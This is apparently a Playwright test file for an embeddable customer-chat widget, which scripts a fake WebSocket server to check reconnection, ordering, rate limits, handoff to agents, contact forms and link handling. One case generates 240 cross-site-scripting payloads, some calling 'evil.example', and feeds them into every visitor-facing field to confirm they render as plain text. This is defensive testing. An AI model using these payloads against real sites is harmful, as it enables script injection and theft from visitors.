/*
 * The widget against a scripted socket: what it does with each frame and close code, without a server.
 *
 *   node wire.mjs
 *
 * The script plays the server's side of one visitor socket, frame by frame, so gaps, repeats, refusals and withdrawn
 * answers happen exactly where a case wants them. CHROMIUM names another browser.
 */
import { readFileSync } from 'node:fs';
import http from 'node:http';
import { gzipSync } from 'node:zlib';
import { chromium } from 'playwright-core';
import { Widget, about, check, summary, until } from './harness.mjs';

const WIDGET = readFileSync(new URL('../../assets/widget/widget.js', import.meta.url));
const AT = '2026-01-02T03:04:05Z';
const web = http.createServer((request, response) => {
  const script = request.url === '/widget.js';
  response.writeHead(200, { 'content-type': script ? 'text/javascript' : 'text/html' });
  response.end(script ? WIDGET : '<!doctype html><title>t</title><body><script src="/widget.js" data-site="demo"></script>');
});
await new Promise((done) => web.listen(0, '127.0.0.1', done));
const origin = 'http://127.0.0.1:' + web.address().port;
const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
    '--disable-background-networking', '--disable-component-update', '--disable-sync'],
});

/** One visitor with a server of the case's own: `script` overrides how requests are answered. */
async function visitor(script = {}) {
  const context = await browser.newContext();
  const page = await context.newPage();
  const self = { context, page, widget: new Widget(page), sockets: [], frames: [], errors: [], seq: 10, cursor: 0, conversation: 'c1' };
  page.on('console', (m) => m.type() === 'error' && self.errors.push(m.text()));
  page.on('pageerror', (e) => self.errors.push(String(e)));
  const welcome = (d) => ({
    token: d.token || 'v1.aaaa', log_id: 'log1', visitor: 'v', site: { id: 'demo', name: 'Varnholt', greeting: 'Hello' },
    availability: { offered: true, when_nobody: 'ticket' }, mode: d.resume ? 'resumed' : 'snapshot',
    head: d.resume ? d.resume.last_seq : self.seq, conversation: null, replayed: 0,
  });
  await context.routeWebSocket(/\/ws\/visitor/, (ws) => {
    self.sockets.push(ws);
    self.ws = ws;
    const answer = (id, value) => ws.send(JSON.stringify({ t: 'res', id, ...(value.code ? { ok: false, error: { retryable: false, details: {}, message: value.code, ...value } } : { ok: true, d: value }) }));
    ws.onMessage((text) => {
      const f = JSON.parse(String(text));
      self.frames.push(f);
      if (f.t !== 'req') return;
      const own = script[f.op] && script[f.op](f, self, welcome);
      if (own === null) return;
      if (own) answer(f.id, own);
      else if (f.op === 'auth') answer(f.id, welcome(f.d));
      else if (f.op === 'message.send') {
        const seq = (self.seq += 1);
        answer(f.id, { id: 'm' + seq, conversation: self.conversation, seq });
        self.event('message.posted', { id: 'm' + seq, seq, at: AT, author: 'visitor', name: '', text: f.d.text, cid: f.d.cid, sources: [], attachments: [] }, { seq });
      } else answer(f.id, {});
      if (f.op === 'auth') self.cursor = f.d.resume ? f.d.resume.last_seq : self.seq;
    });
    ws.send(JSON.stringify({ t: 'ctl', type: 'hello', protocols: ['baton.v1+json'], heartbeat_ms: 20000, max_frame: 16384, server_time: AT }));
  });
  self.event = (type, d, at = {}) => {
    const seq = at.seq || (self.seq += 1);
    const prev = at.prev === undefined ? self.cursor : at.prev;
    self.cursor = seq;
    self.send({ t: 'ev', seq, prev, at: AT, conversation: self.conversation, version: at.version || 1, type, d });
    return seq;
  };
  self.says = (author, name, text, at) => self.event('message.posted', { id: 'x' + (self.seq + 1), author, name, text, sources: [], attachments: [] }, at);
  self.send = (frame) => self.ws.send(JSON.stringify(frame));
  self.asked = (op) => self.frames.filter((f) => f.op === op);
  self.ready = (n = 1) => until(async () => self.asked('auth').length >= n && (await self.widget.link.first().isHidden()) && (await self.widget.ask.isEnabled()));
  await page.goto(origin + '/');
  await self.widget.open();
  return self;
}

const cases = {
  async 'a gap closes the socket and resumes from what is known'() {
    const v = await visitor();
    await v.ready();
    const known = v.says('assistant', 'Assistant', 'one');
    await v.widget.line((l) => l.text === 'one');
    v.says('assistant', 'Assistant', 'three', { seq: known + 5, prev: known + 3 });
    await until(() => v.asked('auth').length === 2);
    const resume = v.asked('auth')[1].d.resume;
    check('resume asks from the last seq before the gap', resume && resume.last_seq === known && resume.log_id === 'log1', resume);
    check('what came after the gap is not shown', (await v.widget.count('three')) === 0);
    check('the token is sent again', v.asked('auth')[1].d.token === 'v1.aaaa');
    return v;
  },
  async 'repeats are dropped, unknown types count'() {
    const v = await visitor();
    await v.ready();
    const seq = v.says('agent', 'Priya', 'once');
    v.says('agent', 'Priya', 'once', { seq, prev: seq - 1 });
    const unknown = v.event('rating.asked', { stars: 5 });
    v.says('agent', 'Priya', 'after', { prev: unknown });
    await v.widget.line((l) => l.text === 'after');
    check('shown once, no reconnect', (await v.widget.count('once')) === 1 && v.sockets.length === 1);
    return v;
  },
  async 'a heartbeat moves the cursor and is answered'() {
    const v = await visitor();
    await v.ready();
    v.seq = 500;
    v.send({ t: 'ctl', type: 'heartbeat', head: 500 });
    check('answered', await until(() => v.frames.some((f) => f.t === 'ctl' && f.type === 'heartbeat')));
    v.ws.close({ code: 4000 });
    await until(() => v.asked('auth').length === 2);
    check('resume from the head', v.asked('auth')[1].d.resume.last_seq === 500, v.asked('auth')[1].d);
    return v;
  },
  async '64 events are acknowledged at once'() {
    const v = await visitor();
    await v.ready();
    let last = 0;
    for (let i = 0; i < 64; i++) last = v.event('rating.asked', {});
    check('with the last seq', await until(() => v.frames.some((f) => f.t === 'ctl' && f.type === 'ack' && f.seq === last)), v.frames.slice(-3));
    return v;
  },
  async 'told to slow down, it waits and sends the same cid'() {
    let refused = 0;
    const v = await visitor({ 'message.send': () => (refused++ < 2 ? { code: 'rate.limited', retryable: true, details: { retry_after_ms: 120 } } : undefined) });
    await v.ready();
    await v.widget.say('patience');
    check('sent in the end', await v.widget.sent('patience'));
    check('three tries, one cid, shown once', v.asked('message.send').length === 3 && new Set(v.asked('message.send').map((f) => f.d.cid)).size === 1 && (await v.widget.count('patience')) === 1);
    const cid = v.asked('message.send')[0].d.cid;
    check('the cid is a UUIDv7 of now', /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/.test(cid) &&
      Math.abs(parseInt(cid.replace(/-/g, '').slice(0, 12), 16) - Date.now()) < 600000, cid);
    return v;
  },
  async 'a refused message says why and can be tried again'() {
    let refuse = true;
    const v = await visitor({ 'message.send': () => (refuse ? { code: 'message.refused', message: 'not like this' } : undefined) });
    await v.ready();
    await v.widget.say('hm');
    const line = await v.widget.line((l) => /Not sent: not like this/.test(l.status));
    check('the reason is shown', !!line, await v.widget.lines());
    await v.widget.say('next');
    await until(() => v.asked('message.send').length === 2);
    refuse = false;
    for (const again of await v.page.locator('#baton-widget').getByText('Try again').all()) await again.click().catch(() => {});
    check('tried again and sent', (await v.widget.sent('hm')) && (await v.widget.count('hm')) === 1);
    return v;
  },
  async 'a partial answer is replaced by the message, a withdrawn one vanishes'() {
    const v = await visitor();
    await v.ready();
    const partial = v.page.locator('#baton-widget [aria-live=off] .b');
    v.send({ t: 'eph', type: 'assistant.partial', turn: 't1', epoch: 0, text: 'Let me' });
    await partial.filter({ hasText: 'Let me' }).waitFor();
    v.says('assistant', 'Assistant', 'Let me see.');
    await v.widget.line((l) => l.text === 'Let me see.');
    check('replaced', (await partial.count()) === 0);
    v.send({ t: 'eph', type: 'assistant.partial', turn: 't2', epoch: 0, text: 'Stale words' });
    await partial.filter({ hasText: 'Stale words' }).waitFor();
    v.send({ t: 'eph', type: 'assistant.withdrawn', turn: 't2' });
    check('withdrawn', await until(async () => (await partial.count()) === 0));
    v.send({ t: 'eph', type: 'assistant.partial', turn: 't3', epoch: 0, text: 'Too late' });
    await partial.filter({ hasText: 'Too late' }).waitFor();
    v.event('agent.joined', { name: 'Priya' });
    check('gone when a person joins', await until(async () => (await partial.count()) === 0));
    v.send({ t: 'eph', type: 'assistant.partial', turn: 't3', epoch: 0, text: 'Too late indeed' });
    v.says('agent', 'Priya', 'marker');
    await v.widget.line((l) => l.text === 'marker');
    check('and none is shown after it', (await partial.count()) === 0);
    return v;
  },
  async 'who comes and goes is told once each, in the server\'s words where it has some'() {
    const v = await visitor();
    await v.ready();
    for (const round of [1, 2]) {
      v.event('agent.joined', { name: 'Priya' });
      v.event('notice.posted', { id: 'j' + round, key: 'agent.joined', text: 'Priya joined the conversation' });
      v.event('agent.left', { reason: 'released' });
    }
    v.event('agent.joined', { name: 'Tom' });
    v.event('resolved', {});
    v.event('notice.posted', { id: 'r', key: 'conversation.resolved', text: 'All done' });
    await v.widget.line((l) => l.text === 'All done');
    const lines = (await v.widget.lines()).map((l) => l.text);
    const wanted = ['Priya joined the conversation', 'Priya left the chat', 'Priya joined the conversation', 'Priya left the chat', 'Tom joined', 'All done'];
    check('six lines', JSON.stringify(lines) === JSON.stringify(wanted), lines);
    return v;
  },
  async 'broken storage and a broken title do not break it'() {
    const v = await visitor();
    await v.page.evaluate(() => {
      localStorage.setItem('baton:demo:log', '{"items":[null,1,{"id":"x"}],"last_seq":"no"}');
      localStorage.setItem('baton:demo:out:1', '{"cid":"1"}');
      localStorage.setItem('baton:demo:out:2', 'not json');
    });
    await v.page.addInitScript(() => document.addEventListener('readystatechange', () => (document.title = 'half \ud83d')));
    await v.page.reload();
    await v.widget.say('still here');
    check('sends', await v.widget.sent('still here'));
    check('no lone surrogate leaves', v.frames.every((f) => !/[\ud800-\udbff](?![\udc00-\udfff])/.test(JSON.stringify(f.d || {}).replace(/\\u(d[89ab][0-9a-f]{2})/gi, (_, h) => String.fromCharCode(parseInt(h, 16))))));
    return v;
  },
  async '240 hostile strings, in every field a stranger can fill, are text'() {
    const acts = ['alert(1)', 'parent.alert(1)', 'fetch("https://evil.example")', 'document.body.remove()', 'top["al"+"ert"](1)', 'import("//evil.example")', 'eval("alert(1)")', 'location="javascript:alert(1)"'];
    const shapes = [
      (a) => `<script>${a}</script>`, (a) => `<img src=x onerror='${a}'>`, (a) => `<svg onload='${a}'>`, (a) => `"><body onpageshow='${a}'>`,
      (a) => `<iframe srcdoc="<script>${a}</script>"></iframe>`, (a) => `<a href='javascript:${a}'>x</a>`, (a) => `javascript:${a}`,
      (a) => `</style><style onload='${a}'></style>`, (a) => `<details open ontoggle='${a}'>`, (a) => `<math><mtext></form><form><mglyph><style></math><img src onerror='${a}'>`,
      (a) => `<!--><img src=x onerror='${a}'>-->`, (a) => `\u0000<\u0000img src=x onerror='${a}'>`, (a) => `<noscript><p title="</noscript><img src=x onerror='${a}'>">`,
      (a) => `data:text/html,<script>${a}</script>`, (a) => `java\nscript:${a}`, (a) => ` javascript:${a}`, (a) => `&lt;img src=x onerror='${a}'&gt;`, (a) => `<input autofocus onfocus='${a}'>`,
      (a) => `<template><script>${a}</script></template>`, (a) => `<video><source onerror='${a}'>`, (a) => `<object data='javascript:${a}'>`, (a) => `<base href='https://evil.example/'>${a}`,
      (a) => `<meta http-equiv=refresh content='0;url=javascript:${a}'>`, (a) => `https://a.example/"onmouseover='${a}'`, (a) => `vbscript:${a}`, (a) => `__proto__ constructor toString ${a}`,
      (a) => `\u202e<img src=x onerror='${a}'>\u2066`, (a) => `%3Cscript%3E${a}%3C/script%3E`, (a) => `[x](javascript:${a})`, (a) => `<x-y contenteditable onblur='${a}' tabindex=1 autofocus>`,
    ];
    const hostile = shapes.flatMap((shape) => acts.map(shape));
    const v = await visitor({ auth: (f, self, welcome) => ({ ...welcome(f.d), site: { id: 'demo', name: hostile[8], greeting: hostile[9] } }) });
    const dialogs = [];
    const foreign = [];
    v.page.on('dialog', (d) => {
      dialogs.push(d.message());
      d.dismiss().catch(() => {});
    });
    v.page.on('request', (r) => r.url().startsWith(origin) || foreign.push(r.url()));
    await v.ready();
    hostile.forEach((text, i) => v.event('message.posted', {
      id: 'h' + i, author: i % 2 ? 'agent' : 'assistant', name: text, text, sources: [{ title: text, url: text }], attachments: [],
    }));
    v.event('agent.joined', { name: hostile[1] });
    v.event('notice.posted', { id: 'hn', key: hostile[2], text: hostile[2] });
    v.send({ t: 'eph', type: 'typing', who: 'agent', name: hostile[3], on: true });
    v.says('visitor', '', 'the last');
    await v.widget.line((l) => l.text === 'the last');
    const lines = (await v.widget.lines()).filter((l) => l.kind === 'agent' || l.kind === 'assistant');
    check(`${hostile.length} strings shown as they are`, hostile.length >= 240 && lines.length === hostile.length && lines.every((l, i) => l.text === hostile[i] && l.name === hostile[i]),
      lines.filter((l, i) => l.text !== hostile[i]).slice(0, 3));
    const made = await v.page.evaluate(() => {
      const root = document.querySelector('#baton-widget').shadowRoot;
      const all = Array.from(root.querySelectorAll('.panel *'));
      return {
        odd: all.filter((n) => /^(script|img|iframe|object|video|style|base|meta|template|details|form)$/i.test(n.tagName) && !n.matches('form.say, form.lead')).length,
        handlers: all.filter((n) => Array.from(n.attributes).some((a) => /^on/i.test(a.name))).length,
        links: Array.from(root.querySelectorAll('a'), (a) => a.protocol).filter((p) => !/^https?:$/.test(p)),
      };
    });
    check('no element, no handler, no dialog, no request came of them',
      made.odd === 0 && made.handlers === 0 && made.links.length === 0 && dialogs.length === 0 && foreign.length === 0, { made, dialogs, foreign });
    return v;
  },
  async 'typing is shown and sent'() {
    const v = await visitor();
    await v.ready();
    v.event('agent.joined', { name: 'Priya' });
    v.send({ t: 'eph', type: 'typing', who: 'agent', name: 'Priya', on: true });
    const mark = v.page.locator('#baton-widget [aria-live=off]');
    check('Priya is typing', await until(async () => /Priya.*typing/.test(await mark.textContent())));
    v.send({ t: 'eph', type: 'typing', who: 'agent', name: 'Priya', on: false });
    check('and stops', await until(async () => (await mark.textContent()) === ''));
    await v.widget.box.fill('wait');
    check('own typing is told', await until(() => v.asked('typing').some((f) => f.d.on === true)));
    await v.widget.box.press('Enter');
    check('and ends with the message', await until(() => v.asked('typing').some((f) => f.d.on === false)));
    return v;
  },
  async 'what was seen is told while the chat is open, and not before'() {
    const v = await visitor();
    await v.ready();
    v.says('agent', 'Priya', 'one', { version: 3 });
    check('told once it was looked at', await until(() => v.asked('seen').some((f) => f.d.version === 3)));
    await v.widget.launcher.click();
    v.says('agent', 'Priya', 'two', { version: 4 });
    v.says('agent', 'Priya', 'three', { version: 5 });
    check('counted as unread', await until(async () => /2/.test(await v.page.locator('#baton-widget .launch').textContent())));
    // Longer than a reply is looked at before it counts.
    await new Promise((done) => setTimeout(done, 800));
    check('a closed chat has seen nothing', v.asked('seen').length === 1, v.asked('seen'));
    await v.widget.launcher.click();
    check('told when it is opened', await until(() => v.asked('seen').some((f) => f.d.version === 5)));
    check('only the newest', v.asked('seen').every((f) => f.d.version !== 4));
    return v;
  },
  async 'a snapshot replaces everything, the outbox stays'() {
    let hold = true;
    const snapshot = { id: 'c9', state: 'active', holder: { kind: 'agent', name: 'Priya' }, epoch: 3, messages: [
      { id: 'n1', seq: 70, at: AT, author: 'visitor', name: '', text: 'from another device', sources: [], attachments: [] },
      { id: 'n2', seq: 71, at: AT, author: 'system', name: '', text: 'a notice', sources: [], attachments: [] },
    ] };
    const v = await visitor({
      'message.send': () => (hold ? null : undefined),
      auth: (f, self, welcome) => (self.asked('auth').length > 1 ? { ...welcome(f.d), log_id: 'log2', mode: 'snapshot', head: 90, conversation: snapshot } : undefined),
    });
    await v.ready();
    v.says('assistant', 'Assistant', 'old');
    await v.widget.line((l) => l.text === 'old');
    await v.widget.say('unanswered');
    await until(() => v.asked('message.send').length === 1);
    hold = false;
    Object.assign(v, { seq: 90, conversation: 'c9' });
    v.ws.close({ code: 4000 });
    check('the unanswered one is sent again', await v.widget.sent('unanswered'));
    const lines = (await v.widget.lines()).map((l) => l.text);
    check('old lines are gone, each line once', JSON.stringify(lines) === JSON.stringify(['from another device', 'a notice', 'unanswered']), lines);
    check('with one cid', new Set(v.asked('message.send').map((f) => f.d.cid)).size === 1);
    check('the agent is named', (await v.widget.title.textContent()) === 'Priya');
    return v;
  },
  async 'a refused token is dropped once, with nothing unsent lost'() {
    const v = await visitor({ auth: (f) => (f.d.token === 'v1.aaaa' ? { code: 'auth.failed' } : { token: 'v1.bbbb', log_id: 'log7', visitor: 'w', site: { id: 'demo', name: 'V', greeting: '' }, availability: { offered: true, when_nobody: 'ticket' }, mode: 'snapshot', head: 1, conversation: null, replayed: 0 }) });
    await v.page.evaluate(() => localStorage.setItem('baton:demo:token', '"v1.aaaa"'));
    await v.page.reload();
    check('a new visitor', await until(async () => (await v.page.evaluate(() => localStorage.getItem('baton:demo:token'))) === '"v1.bbbb"'), v.frames);
    return v;
  },
  async 'a code of 4200 to 4299 stops it and says so'() {
    const v = await visitor();
    await v.ready();
    v.ws.close({ code: 4206 });
    check('told in the panel', await until(async () => /not available/.test(await v.widget.link.first().textContent())));
    check('and in the console, with the origin', v.errors.some((e) => /^Baton: .*does not allow http:\/\/127/.test(e)), v.errors);
    await v.page.evaluate(() => window.dispatchEvent(new Event('online')));
    check('no second socket', v.sockets.length === 1);
    return v;
  },
  async 'a planned restart: the next socket is open before the first goes'() {
    const v = await visitor();
    await v.ready();
    let closed = 0;
    v.sockets[0].onClose(() => (closed += 1));
    v.send({ t: 'ctl', type: 'goaway', in_ms: 50 });
    await until(() => v.asked('auth').length === 2);
    check('the first goes once the second is welcome', await until(() => closed === 1));
    v.says('assistant', 'Assistant', 'on the new one');
    check('and the second speaks', await v.widget.line((l) => l.text === 'on the new one'));
    check('no further socket', v.sockets.length === 2);
    return v;
  },
  async 'the queue: position, cancel, availability'() {
    const v = await visitor({ 'handoff.cancel': (f, self) => void self.event('handoff.cancelled', {}) });
    await v.ready();
    await v.widget.ask.click();
    v.event('handoff.initiated', { reason: 'visitor_button' });
    v.event('handoff.completed', { ticket: false });
    v.send({ t: 'eph', type: 'queue.position', position: 3 });
    check('position', await until(async () => /You are number 3 in line/.test(await v.widget.queue.textContent())));
    v.send({ t: 'eph', type: 'availability', offered: false, when_nobody: 'ticket' });
    check('the truth when all go', await until(async () => /The team is away right now/.test(await v.widget.queue.textContent())));
    v.send({ t: 'eph', type: 'availability', offered: true, when_nobody: 'ticket' });
    await v.widget.queue.getByRole('button', { name: 'Cancel' }).click();
    check('cancelled', await until(async () => !(await v.widget.queue.isVisible()) && (await v.widget.ask.isVisible())));
    v.send({ t: 'eph', type: 'availability', offered: false, when_nobody: 'assistant' });
    check('nothing is offered where nobody is and no ticket is taken', await until(async () => !(await v.widget.ask.isVisible())));
    return v;
  },
  async 'with nobody there: the form, its words as a message, the ticket, and back to a live person'() {
    const v = await visitor({
      'handoff.request': (f, self) => void (self.asked('lead.submit').length ? self.event('handoff.completed', { ticket: false }) : self.event('handoff.initiated', {})),
      'lead.submit': (f, self) => {
        self.event('handoff.completed', { ticket: true });
        self.event('notice.posted', { id: 't', key: 'handoff.ticket_queued', text: 'We reply by e-mail.' });
      },
    });
    await v.ready();
    v.send({ t: 'eph', type: 'availability', offered: false, when_nobody: 'ticket' });
    await until(async () => (await v.widget.ask.textContent()) === 'Leave a message for the team');
    await v.widget.ask.click();
    const form = v.page.locator('#baton-widget form.lead');
    await form.getByLabel('Your name').fill('Ada');
    await form.getByLabel('Your e-mail').fill('ada@example.org');
    await form.getByLabel('Message (optional)').fill('call me');
    await form.getByLabel('Your name').press('Enter');
    await v.widget.line((l) => l.text === 'We reply by e-mail.');
    const lines = (await v.widget.lines()).map((l) => l.text);
    check('one message, one notice', JSON.stringify(lines) === JSON.stringify(['call me', 'We reply by e-mail.']), lines);
    const lead = v.asked('lead.submit').map((f) => Object.keys(f.d).sort().join());
    check('name and e-mail once, nothing the server does not know', lead.join(';') === 'cid,email,name', lead);
    check('the order on the wire', JSON.stringify(v.frames.filter((f) => f.t === 'req' && f.d.cid).map((f) => f.op)) === '["handoff.request","message.send","lead.submit"]');
    check('no offer while the ticket waits', !(await v.widget.ask.isVisible()) && !(await v.widget.queue.isVisible()));
    v.send({ t: 'eph', type: 'availability', offered: true, when_nobody: 'ticket' });
    await until(async () => (await v.widget.ask.isVisible()) && (await v.widget.ask.textContent()) === 'Talk to a person');
    await v.widget.ask.click();
    check('somebody is back: the ticket becomes a place in the queue', await until(() => v.widget.queue.isVisible()));
    return v;
  },
  async 'a reload while contact details are wanted shows the form again'() {
    const v = await visitor({ auth: (f, self, welcome) => ({ ...welcome(f.d), availability: { offered: false, when_nobody: 'ticket' }, conversation: { id: 'c1', state: 'assistant', holder: { kind: 'assistant' }, epoch: 0, ticket: false, lead_wanted: true, messages: f.d.resume ? null : [] } }) });
    const form = v.page.locator('#baton-widget form.lead');
    check('the form is there', await until(() => form.isVisible()));
    await form.getByRole('button', { name: 'Not now' }).click();
    check('not now: cancelled at the server', await until(() => v.asked('handoff.cancel').length === 1));
    return v;
  },
  async 'sources: http, https and own paths are links, the rest is text'() {
    const v = await visitor();
    await v.ready();
    const urls = ['/docs/shipping', 'https://example.org/a', 'javascript:alert(1)', '//evil.example/', '/\\evil.example', 'data:text/html,x', 'HTTPS://example.org/b'];
    v.event('message.posted', { id: 's', author: 'assistant', name: 'Assistant', text: 'see', sources: urls.slice(0, 5).map((url, i) => ({ title: 'T' + i, url })), attachments: [] });
    v.event('message.posted', { id: 's2', author: 'assistant', name: 'Assistant', text: 'see too', sources: urls.slice(5).map((url) => ({ title: '', url })), attachments: [] });
    await v.widget.line((l) => l.text === 'see too');
    const links = (await v.widget.lines()).flatMap((l) => l.links);
    check('three links', JSON.stringify(links) === JSON.stringify([origin + '/docs/shipping', 'https://example.org/a', 'https://example.org/b']), links);
    return v;
  },
  async 'what a closed tab left unsent is adopted'() {
    const v = await visitor();
    await v.page.evaluate(() => {
      const entry = (cid, claimed) => localStorage.setItem('baton:demo:out:' + cid, JSON.stringify({ cid, op: 'message.send', d: { cid, text: cid }, at: claimed, tab: 'other', claimed, failed: '' }));
      entry('left behind', Date.now() - 11000);
      entry('still alive', Date.now() + 60000);
    });
    await v.page.reload();
    check('sent', await v.widget.sent('left behind'));
    check('another tab\'s own is left alone', v.asked('message.send').every((f) => f.d.text !== 'still alive'));
    check('and gone from the disk', (await v.page.evaluate(() => localStorage.getItem('baton:demo:out:left behind'))) === null);
    return v;
  },
};

const weight = gzipSync(WIDGET, { level: 9 }).length;
check('the widget is at most 20 KiB on the wire', weight <= 20 * 1024, weight);
for (const [name, run] of Object.entries(cases)) {
  about(name);
  try {
    const v = await run();
    check('no script error', !v.errors.some((e) => /TypeError|ReferenceError|SyntaxError/.test(e)), v.errors);
    await v.context.close();
  } catch (error) {
    check('ran to its end', false, String(error && error.stack));
  }
}
await browser.close();
web.close();
web.closeAllConnections();
process.exit(summary() ? 0 : 1);
